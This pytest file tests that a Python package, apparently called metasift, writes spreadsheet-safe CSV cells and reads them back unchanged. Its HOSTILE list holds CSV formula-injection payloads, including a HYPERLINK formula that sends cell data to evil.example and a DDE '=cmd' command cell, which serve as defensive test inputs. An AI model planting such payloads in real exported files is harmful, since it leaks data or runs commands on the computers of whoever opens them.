"""Spreadsheet-safe cells: every CSV metasift writes opens as data, and reads back unchanged."""

import csv
import io

import pytest

from metasift.dedup.standalone import write_clusters
from metasift.extraction.evidence import CharacteristicsTable
from metasift.records.cells import SafeWriter, formula_like, restore_cell, safe_cell
from metasift.records.formats import read_records, write_records
from metasift.records.model import Record
from metasift.search.log import LogEntry, to_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    "''@x",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def opens_as_data(cell: str) -> bool:
    """What a spreadsheet checks: the cell's first character, with leading spaces trimmed too."""
    return not cell.startswith(TRIGGERS) and not cell.lstrip().startswith(TRIGGERS)


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_quoted_and_restored(text):
    cell = safe_cell(text)
    assert cell == "'" + text
    assert opens_as_data(cell)
    assert restore_cell(cell) == text


@pytest.mark.parametrize("text", ["Stem cells", "'quoted", "a=b", "", " spaced", "[/x]"])
def test_plain_text_is_left_alone(text):
    assert safe_cell(text) == text
    assert restore_cell(text) == text


def test_numbers_stay_numbers():
    assert safe_cell(-5) == -5
    assert safe_cell(-0.5) == -0.5
    assert safe_cell(None) == ""
    # a plain number in a numeric column stays a number; as text elsewhere it stays text
    assert safe_cell("-0.5", numeric=True) == "-0.5"
    assert safe_cell("-1e-3", numeric=True) == "-1e-3"
    assert safe_cell("-0.5") == "'-0.5"
    assert safe_cell("-1+1", numeric=True) == "'-1+1"
    assert safe_cell(True) == "True"
    assert not formula_like("12.5")


def test_separator_cannot_start_a_formula_cell():
    buffer = io.StringIO()
    SafeWriter(buffer).writerow(["a,=1+2", "b;@x", 3])
    (row,) = csv.reader(io.StringIO(buffer.getvalue()))
    assert row == ["a,=1+2", "b;@x", "3"]
    # Excel splits on ';' in many locales: the quotes keep a line's first cell whole there too
    buffer = io.StringIO()
    SafeWriter(buffer).writerow(["a;=1+2\t@x"])
    for delimiter in (";", "\t"):
        (row,) = csv.reader(io.StringIO(buffer.getvalue()), delimiter=delimiter)
        assert row == ["a;=1+2\t@x"]


def test_records_csv_opens_as_data_and_reads_back(tmp_path):
    records = [
        Record(
            title=title,
            authors=["=Evil, A", "Lee, B"],
            keywords=["-omics", "+plus"],
            journal="@journal",
            year=2020,
            doi="10.1/x",
        )
        for title in HOSTILE
    ]
    path = tmp_path / "records.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        write_records(records, fh, "csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert all(opens_as_data(cell) for row in rows for cell in row)
    back = read_records(path)
    assert [r.title for r in back] == HOSTILE
    assert back[0].authors == ["=Evil, A", "Lee, B"]
    assert back[0].keywords == ["-omics", "+plus"]
    assert back[0].journal == "@journal"
    assert back[0].year == 2020


def test_other_csv_writers_open_as_data():
    table = CharacteristicsTable(["study", "design"], [["=1+1", "@RCT"]])
    clusters = io.StringIO()
    write_clusters([{"file": "=x.ris", "position": 1, "source_id": "-1", "cluster": 1}], clusters)
    entry = LogEntry(
        1,
        "pubmed",
        "PubMed",
        "-",
        "https://x",
        "2026",
        None,
        "-cancer AND stem",
        "=q",
        "",
        False,
        "done",
        1,
        1,
        1,
        0,
        0,
        0,
        None,
        None,
        "@err",
    )
    for text in (table.to_csv(), clusters.getvalue(), to_csv([entry])):
        rows = list(csv.reader(io.StringIO(text)))
        assert all(opens_as_data(cell) for row in rows for cell in row), text
    assert list(csv.reader(io.StringIO(clusters.getvalue())))[1] == ["'=x.ris", "1", "'-1", "1"]
